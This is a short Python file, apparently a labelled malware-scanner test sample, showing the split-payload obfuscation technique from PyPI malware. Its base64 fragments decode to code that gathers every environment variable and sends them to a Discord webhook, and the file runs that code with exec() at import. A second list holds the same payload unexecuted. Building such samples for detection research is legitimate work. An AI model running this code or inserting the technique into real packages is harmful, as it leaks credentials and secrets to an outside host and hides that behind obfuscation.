# ruff: noqa
"""A payload cut into many literals, joined back and run.

Technique from public write-ups: payloads assembled from hundreds of ``+=``
pieces (Checkmarx, "Split payloads in PyPI malware", 2023; GuardDog's
``obfuscation`` heuristic) so no single literal looks like code.
"""
import base64

_ = ""
_ += 'aW1wb3J0IG9zLCBqc29u'  # attack: MB368
_ += 'LCB1cmxsaWIucmVxdWVz'
_ += 'dApkYXRhID0ganNvbi5k'
_ += 'dW1wcyhkaWN0KG9zLmVu'
_ += 'dmlyb24pKS5lbmNvZGUo'
_ += 'KQp1cmxsaWIucmVxdWVz'
_ += 'dC51cmxvcGVuKCJodHRw'
_ += 'czovL2Rpc2NvcmQuY29t'
_ += 'L2FwaS93ZWJob29rcy8x'
_ += 'MDkzL0FiQ2RFZiIsIGRh'
_ += 'dGEpCmZvciBuYW1lIGlu'
_ += 'ICgiQ2hyb21lIiwgIkVk'
_ += 'Z2UiLCAiQnJhdmUiKToK'
_ += 'ICAgIHByaW50KG5hbWUp'
_ += 'Cg=='
exec(base64.b64decode(_))

_parts = ['aW1wb3J0IG9zLCBqc29u', 'LCB1cmxsaWIucmVxdWVz', 'dApkYXRhID0ganNvbi5k', 'dW1wcyhkaWN0KG9zLmVu', 'dmlyb24pKS5lbmNvZGUo', 'KQp1cmxsaWIucmVxdWVz', 'dC51cmxvcGVuKCJodHRw', 'czovL2Rpc2NvcmQuY29t', 'L2FwaS93ZWJob29rcy8x', 'MDkzL0FiQ2RFZiIsIGRh', 'dGEpCmZvciBuYW1lIGlu', 'ICgiQ2hyb21lIiwgIkVk', 'Z2UiLCAiQnJhdmUiKToK', 'ICAgIHByaW50KG5hbWUp', 'Cg==']
_code = base64.b64decode("".join(_parts))  # attack: MB368
